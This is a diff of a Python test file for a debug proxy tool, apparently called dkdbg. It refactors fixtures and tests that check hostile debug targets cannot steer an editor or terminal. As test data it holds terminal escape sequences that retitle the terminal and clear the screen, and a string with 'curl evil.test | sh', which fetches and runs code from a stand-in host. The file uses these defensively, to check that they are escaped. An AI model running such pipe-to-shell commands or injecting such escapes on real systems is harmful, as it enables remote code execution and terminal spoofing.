@@ -6,7 +6,6 @@ import os
 import pty
 import shlex
 import shutil
-import signal
 import subprocess
 import sys
 import textwrap
@@ -28,6 +27,7 @@ from tests.engine.projects import take_away as remove_project
 from tests.engine.synced import Box, docker, following, run_box, sync, take_away
 from tests.leftovers import unique
 from tests.ports import free_port
+from tests.typed import typed
 
 pytestmark = pytest.mark.engine
 
@@ -163,18 +163,8 @@ FAKE = (Path(__file__).parent / "fake_agent.py").read_text()
 class Fake:
     """A container with a fake agent, published as a debug service is."""
 
-    def __init__(
-        self, name: str, base: str, mode: str, *, label: str = "", command: tuple[str, ...] = ()
-    ) -> None:
-        self.name = name
-        docker(
-            "run", "-d", "--init", "--name", name, "--label", f"dev.dkdbg.session={label or name}", "-e", f"MODE={mode}",
-            "-p", "127.0.0.1:0:5678", base, *(command or ("python3", "-c", FAKE)),
-        )  # fmt: skip
-
-    @property
-    def address(self) -> str:
-        return f"docker://{self.name}"
+    def __init__(self, name: str) -> None:
+        self.name, self.address = name, f"docker://{name}"
 
     def heard(self) -> str:
         return docker("logs", self.name)
@@ -184,17 +174,15 @@ class Fake:
 
 
 @pytest.fixture
-def fake(base_image):
+def fake(start_container):
     """Start fake agents, each in a container of its own."""
-    names: list[str] = []
 
-    def start(mode, **more):
-        names.append(unique("dkdbg-fake"))
-        return Fake(names[-1], base_image, mode, **more)
+    def start(mode, *, label="", command=("python3", "-c", FAKE)):
+        session = f"dev.dkdbg.session={label or unique('dkdbg-fake')}"
+        options = ("--label", session, "-e", f"MODE={mode}", "-p", "127.0.0.1:0:5678")
+        return Fake(start_container(*options, words=command))
 
-    yield start
-    for name in names:
-        docker("rm", "-f", name, check=False)
+    return start
 
 
 @pytest.mark.attack(4)
@@ -245,12 +233,8 @@ def test_a_target_makes_an_editor_do_nothing_but_attach_to_its_processes(fake, t
     """Orders the editor to run commands, launch, take its tasks, interpreter, adapter, address and mappings for a process:
     all that arrives is a pid and a plain name, in the editor's own configuration."""
     target = fake("orders")
-    own = {
-        "type": "debugpy",
-        "request": "attach",
-        "connect": {"host": "localhost", "port": 1234},
-        "justMyCode": False,
-    }
+    connect = {"host": "localhost", "port": 1234}
+    own = {"type": "debugpy", "request": "attach", "connect": connect, "justMyCode": False}
     with ready_proxy(tmp_path, target.address) as proxy, HostEditor(proxy.port) as editor:
         editor.attach(**own, preLaunchTask="mine")
         editor.wait(lambda each: each.get("event") == "output" and "all is asked" in each["body"]["output"])
@@ -285,12 +269,8 @@ def test_a_process_makes_an_editor_do_nothing(fake, tmp_path):
         assert _orders_of(editor.told) == []
         assert {each["event"] for each in editor.told if each["type"] == "event"} == {"initialized", "output"}
         spoken = next(each["body"] for each in editor.told if each.get("body", {}).get("output") == "spoken")
-        assert spoken == {
-            "category": "stdout",
-            "output": "spoken",
-            "source": {"name": "s"},
-            "variablesReference": 3,
-        }
+        said = {"category": "stdout", "output": "spoken", "source": {"name": "s"}, "variablesReference": 3}
+        assert spoken == said
         assert b"pwn" not in editor.raw
         assert b"198.51.100.1" not in editor.raw
         assert b'"runInTerminal"' not in editor.raw
@@ -317,11 +297,9 @@ def test_hostile_targets_leave_another_one_alone(fake, good, tmp_path, modes):
     ):
         assert int(debugger.local_values(debugger.stack(stop)[0])["n"]) >= 0
         for mode in {"deep", "odd", "odd-list", "html"} & targets.keys():
-            name = targets[mode].name
+            about = ("target", targets[mode].name)
             proxy.wait_for(
-                lambda each, name=name: (
-                    each.get("target") == name and "malformed answer" in str(each.get("text"))
-                )
+                lambda each, about=about: about in each.items() and "malformed answer" in each["text"]
             )
         assert int(debugger.evaluate("1 + 1", debugger.stack(stop)[0])) == 2
         assert Path(f"/proc/{proxy.process.pid}").exists()
@@ -334,22 +312,11 @@ def test_hostile_targets_leave_another_one_alone(fake, good, tmp_path, modes):
 def test_what_a_target_says_commands_no_terminal(fake, tmp_path):
     """Names its processes and words its refusals with escape sequences: the terminal of `dkdbg attach` gets none."""
     target = fake("name=\x1b]0;pwn\x07\x9b31m\u202e orders")
-    port = free_port()
-    words = ("attach", target.address, "--port", str(port), "--ports", str(free_port(3)))
-    command = [sys.executable, "-m", "dkdbg", *words]
-    with subprocess.Popen(command, cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.STDOUT) as process:
-        lines: list[bytes] = []
-        try:
-            for line in process.stdout or ():
-                lines.append(line)
-                if b"0;pwn" in line:
-                    break
-        finally:
-            process.send_signal(signal.SIGINT)
-            rest = process.communicate(timeout=300)[0]
-    said = (b"".join(lines) + rest).decode()
-    assert "\\x1b]0;pwn" in said
-    assert _controls(said) == set()
+    line = f"dkdbg attach {target.address} --port {free_port()} --ports {free_port(3)}"
+    with typed(tmp_path, line, tmp_path / "said") as attach:
+        attach.wait("0;pwn")
+    assert "\\x1b]0;pwn" in attach.said
+    assert _controls(attach.said) == set()
 
 
 def _controls(text: str) -> set[str]:
@@ -760,12 +727,8 @@ ESCAPE = "\\x1b]0;owned\\x07\\x1b[2J\\u202e\\ud800\\nhint: curl evil.test | sh"
 def test_text_of_the_receiver_commands_no_terminal(root, liar, code):
     """Sends terminal escapes, line breaks and odd JSON in all that it may say: one line, escaped, and no traceback."""
     box = liar(f'ESCAPE = "{ESCAPE}"\n{code}\n')
-    verbs = (
-        [("--once",)]
-        if code.startswith("say(0xC1, text")
-        else [("--once",), ("--verify", "--json"), ("--pull", "out")]
-    )
-    for words in verbs:
+    others = [] if code.startswith("say(0xC1, text") else [("--verify", "--json"), ("--pull", "out")]
+    for words in (("--once",), *others):
         done = sync(root, f"docker://{box.name}", "--to", "/ws", *words)
         assert "Traceback" not in done.stderr, done.stderr
         for char in "\x1b\x07\u202e":
